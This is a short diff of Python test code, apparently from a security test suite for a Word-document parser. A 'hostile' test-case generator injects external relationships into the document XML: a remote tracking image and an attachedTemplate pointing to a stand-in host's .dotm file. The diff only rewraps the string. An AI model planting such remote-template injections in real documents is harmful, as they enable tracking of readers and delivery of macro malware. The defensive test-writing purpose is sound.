@@ -185,8 +185,8 @@ def hostile() -> Iterator[Item]:
         lambda xml: xml.replace(
             b"</Relationships>",
             f'<Relationship Id="rIdX" Type="{REL}image" Target="http://127.0.0.1:9/spion.png" '
-            f'TargetMode="External"/><Relationship Id="rIdT" Type="{REL}attachedTemplate" Target="http://x.example/s.dotm" '
-            f'TargetMode="External"/></Relationships>'.encode(),
+            f'TargetMode="External"/><Relationship Id="rIdT" Type="{REL}attachedTemplate" '
+            f'Target="http://x.example/s.dotm" TargetMode="External"/></Relationships>'.encode(),
         ),
     )
     yield one(
